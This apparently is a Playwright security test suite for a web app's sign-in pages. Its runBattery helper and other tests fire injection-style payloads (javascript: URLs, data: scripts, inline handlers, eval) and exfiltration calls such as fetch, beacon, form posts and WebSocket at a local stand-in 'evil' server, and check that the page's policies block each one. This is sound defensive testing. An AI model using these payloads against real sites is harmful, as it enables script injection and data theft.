@@ -1,0 +1,228 @@
+import { readdirSync, readFileSync } from 'node:fs'
+import { createServer } from 'node:http'
+import { join } from 'node:path'
+import type { Page } from '@playwright/test'
+import { e2eBuilds } from './builds.ts'
+import { expect, signInAtPool, test as base } from './fixtures.ts'
+
+interface Evil {
+  readonly origin: string
+  /** What reached it, by path. */
+  readonly hits: string[]
+}
+
+/** Another site, which nobody should hear from or tell anything. */
+const test = base.extend<{ evil: Evil }>({
+  evil: async ({}, provide) => {
+    const hits: string[] = []
+    const server = createServer((request, response) => {
+      hits.push(request.url ?? '')
+      response.setHeader('content-type', 'text/html')
+      response.end('<!doctype html><title>evil</title>')
+    })
+    await new Promise<void>((resolve) => server.listen(3299, '127.0.0.1', resolve))
+    await provide({ origin: 'http://127.0.0.1:3299', hits })
+    server.closeAllConnections()
+    server.close()
+  },
+})
+
+async function signIn(page: Page): Promise<void> {
+  await page.goto('/account')
+  await signInAtPool(page)
+  await expect(page.getByText('minseo@example.com')).toBeVisible()
+}
+
+/** The browser says in the console what it stopped; here that is the point. */
+const anyLine = { expectedLines: [/./s] }
+
+test.describe('a page that is attacked', () => {
+  test.use(anyLine)
+
+  test('A52: no page of the app can be framed', async ({ page, evil }) => {
+    await page.goto(evil.origin)
+    for (const path of ['/', '/account', '/callback?code=x&state=y', '/nowhere', '/assets/none.js']) {
+      await page.evaluate((url) => {
+        const frame = document.createElement('iframe')
+        frame.src = url
+        document.body.append(frame)
+        return new Promise((resolve) => frame.addEventListener('load', resolve))
+      }, `http://localhost:3000${path}`)
+    }
+    const inside = page.frames().filter((frame) => frame !== page.mainFrame())
+    expect(inside).toHaveLength(5)
+    expect(new Set(inside.map((frame) => frame.url()))).toEqual(new Set(['chrome-error://chromewebdata/']))
+  })
+
+  test('A74: nothing foreign runs, and nothing is sent to another site but by leaving for it', async ({
+    page,
+    evil,
+  }) => {
+    await signIn(page)
+    const ran = await page.evaluate(runBattery, evil.origin)
+    expect(ran).toEqual([])
+    await page.waitForLoadState('networkidle')
+    expect(await page.evaluate(() => Object.keys(window).filter((name) => name.startsWith('pwned')))).toEqual([])
+    expect(evil.hits).toEqual([])
+  })
+
+  test('A75: no text becomes HTML, a script or a worker', async ({ page }) => {
+    await signIn(page)
+    const outcomes = await page.evaluate(() => {
+      const sinks: Record<string, () => unknown> = {
+        innerHTML: () => (document.createElement('div').innerHTML = '<b>x</b>'),
+        outerHTML: () => (document.body.appendChild(document.createElement('p')).outerHTML = '<b>x</b>'),
+        insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b>x</b>'),
+        scriptSrc: () => (document.createElement('script').src = '/x.js'),
+        scriptText: () => (document.createElement('script').text = '1'),
+        srcdoc: () => (document.createElement('iframe').srcdoc = '<b>x</b>'),
+        documentWrite: () => document.write('<b>x</b>'),
+        worker: () => new Worker('/x.js'),
+        range: () => document.createRange().createContextualFragment('<b>x</b>'),
+        parser: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
+      }
+      return Object.entries(sinks).map(([name, write]) => {
+        try {
+          write()
+          return `${name} was let through`
+        } catch (error) {
+          return error instanceof TypeError ? 'TypeError' : `${name}: ${String(error)}`
+        }
+      })
+    })
+    expect(new Set(outcomes)).toEqual(new Set(['TypeError']))
+  })
+
+  test('A58: who opens the app keeps no hold of it', async ({ page, evil }) => {
+    await page.goto(evil.origin)
+    const opened = page.waitForEvent('popup')
+    await page.evaluate(() => void Object.assign(window, { opened: window.open('http://localhost:3000/') }))
+    const popup = await opened
+    await expect(popup.getByRole('button', { name: 'Sign in', exact: true })).toBeVisible()
+    expect(await popup.evaluate(() => window.opener)).toBeNull()
+    expect(await page.evaluate('opened.closed')).toBe(true)
+  })
+})
+
+test('A53: no request of a sign-in carries a referrer', async ({ page }) => {
+  const referrers: string[] = []
+  page.on('request', async (request) => {
+    const { referer = '' } = await request.allHeaders()
+    if (referer !== '') referrers.push(`${request.url()} from ${referer}`)
+  })
+  await signIn(page)
+  await page.getByRole('button', { name: 'Refresh now' }).click()
+  await expect(page.getByText('The session has been refreshed.')).toBeVisible()
+  expect(referrers).toEqual([])
+})
+
+interface Places {
+  readonly session: string[]
+  readonly databases: (string | undefined)[]
+  readonly cacheNames: string[]
+}
+
+test('A55: tokens are in the one record of the session, and nowhere else in the page', async ({ page }) => {
+  const tokens: string[] = []
+  page.on('response', async (response) => {
+    if (!response.url().endsWith('/oauth2/token')) return
+    const body: Record<string, unknown> = await response.json()
+    tokens.push(...['access_token', 'id_token', 'refresh_token'].map((name) => String(body[name])))
+  })
+  await signIn(page)
+  expect(tokens).toHaveLength(3)
+  const places: Places = await page.evaluate(async () => ({
+    session: Object.keys(sessionStorage).map((key) => [key, sessionStorage.getItem(key)].join('=')),
+    local: JSON.stringify(localStorage),
+    cookies: document.cookie,
+    databases: (await indexedDB.databases()).map(({ name }) => name),
+    cacheNames: await caches.keys(),
+    history: JSON.stringify(history.state),
+    address: location.href,
+    dom: document.documentElement.outerHTML,
+    globals: Object.keys(window)
+      .map((name) => String(Reflect.get(window, name)))
+      .join('\n'),
+    name: window.name,
+  }))
+  const { session, databases, cacheNames, ...elsewhere } = places
+  expect([databases, cacheNames]).toEqual([[], []])
+  expect(session.filter((record) => tokens.some((token) => record.includes(token)))).toHaveLength(1)
+  for (const token of tokens) expect(JSON.stringify(elsewhere)).not.toContain(token)
+})
+
+test('A57: messages of other windows move nothing', async ({ page }) => {
+  await signIn(page)
+  let requests = 0
+  page.on('request', () => (requests += 1))
+  await page.evaluate(() => {
+    for (let count = 0; count < 10_000; count += 1) window.postMessage({ type: 'look', id: count }, '*')
+  })
+  await expect(page.getByText('minseo@example.com')).toBeVisible()
+  expect(requests).toBe(0)
+})
+
+test('A80: what is built holds no source map, no test code and nothing of the local pool', () => {
+  for (const { outDir } of e2eBuilds) {
+    const files = readdirSync(outDir, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile())
+    expect(files.length).toBeGreaterThan(5)
+    expect(files.map(({ name }) => name).filter((name) => name.endsWith('.map'))).toEqual([])
+    for (const { parentPath, name } of files.filter(({ name: file }) => /\.(js|css|html)$/.test(file))) {
+      const text = readFileSync(join(parentPath, name), 'utf8')
+      expect(text, name).not.toMatch(/sourceMappingURL|@vite\/client|vitest|setupServer|createLocalPool|Local-pass-1/)
+    }
+  }
+})
+
+/** Tries what an injection would; gives the names of what was not stopped. Runs in the page. */
+async function runBattery(origin: string): Promise<string[]> {
+  const ran: string[] = []
+  const tries: Record<string, () => unknown> = {
+    eval: () => Reflect.apply(Reflect.get(globalThis, 'eval'), undefined, ['1']),
+    Function: () => Reflect.construct(Reflect.get(globalThis, 'Function'), ['return 1']),
+    fetch: () => fetch(`${origin}/fetch`),
+    import: () => import(/* @vite-ignore */ `${origin}/import.js`),
+    WebSocket: () =>
+      new Promise((resolve, reject) => {
+        const socket = new WebSocket(origin.replace('http', 'ws'))
+        socket.addEventListener('open', resolve)
+        socket.addEventListener('error', reject)
+      }),
+  }
+  for (const [name, act] of Object.entries(tries)) {
+    // What the test's own hand does may do more than the page may; what a timer does may not.
+    await new Promise((resolve) => setTimeout(resolve))
+    try {
+      await act()
+      ran.push(name)
+    } catch {
+      // Stopped, as it should be.
+    }
+  }
+  const add = (tag: string, attributes: Record<string, string>) => {
+    const element = document.createElement(tag)
+    try {
+      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
+      document.body.append(element)
+      element.click()
+    } catch {
+      // Trusted Types stop some before the policy is asked.
+    }
+    return element
+  }
+  add('button', { type: 'button', onclick: 'window.pwnedHandler = 1' })
+  add('a', { href: 'javascript:void(window.pwnedUrl = 1)' })
+  add('script', { src: 'data:text/javascript,window.pwnedData=1' })
+  add('iframe', { src: `${origin}/frame` })
+  add('object', { data: `${origin}/object` })
+  add('img', { src: `${origin}/image` })
+  add('link', { rel: 'stylesheet', href: `${origin}/style.css` })
+  add('link', { rel: 'prefetch', href: `${origin}/prefetch` })
+  add('base', { href: origin })
+  add('video', { src: `${origin}/video` })
+  const form = add('form', { action: `${origin}/form`, method: 'post' })
+  if (form instanceof HTMLFormElement) form.submit()
+  navigator.sendBeacon(`${origin}/beacon`, 'x')
+  await new Promise((resolve) => setTimeout(resolve, 500))
+  return ran
+}
